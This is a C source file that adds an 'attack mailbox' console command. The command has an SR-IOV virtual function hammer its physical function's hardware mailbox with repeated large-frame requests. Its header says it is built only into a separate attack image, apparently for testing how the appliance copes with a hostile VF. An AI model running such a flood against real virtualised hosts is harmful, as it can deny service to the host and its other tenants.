/* mailbox.c - a VF that floods its mailbox, under the command of the console.  Linked into
 * build/attack.elf only, never into the appliance. */
#include "apps/console/command.h"
#include "kernel/mmio.h"
#include "kernel/task.h"
#include "nic/intel/intel_mbx.h"
#include "pci/pci.h"

#include <inttypes.h>

#define VF_BAR 0u
#define VF_BAR_SIZE 0x4000u
#define FRAME 1522u

/* True: the buffer was to be had, and the PF was rung for. */
static bool ask(uint8_t *regs)
{
    mmio_write32(regs + MBX_V2P, MBX_V2P_VFU);
    if (!(mmio_read32(regs + MBX_V2P) & MBX_V2P_VFU))
        return false;
    mmio_write32(regs + MBX_VF_MEMORY(0), MBX_VF_SET_LPE);
    mmio_write32(regs + MBX_VF_MEMORY(1), FRAME);
    mmio_write32(regs + MBX_V2P, MBX_V2P_REQ);
    return true;
}

COMMAND(cmd_attack_mailbox, "attack mailbox BDF NUMBER",
        "Let a VF ask its PF so many times, once a turn of the poll loop");
static int cmd_attack_mailbox(struct command_call *call)
{
    struct pci_function *f = pci_find((uint32_t)call->arg[0].number);
    uint64_t asked = 0;
    if (!f || !f->pf)
        return command_error(call, "%s is no VF", call->arg[0].word);
    uint8_t *regs = pci_map_bar(f, VF_BAR, VF_BAR_SIZE);
    if (!regs)
        return command_error(call, "%s has no registers", call->arg[0].word);
    for (uint64_t i = 0; i < call->arg[1].number; i++) {
        asked += ask(regs);
        task_yield();
    }
    out_printf(call->out, "asked %" PRIu64 " times\n", asked);
    return 0;
}
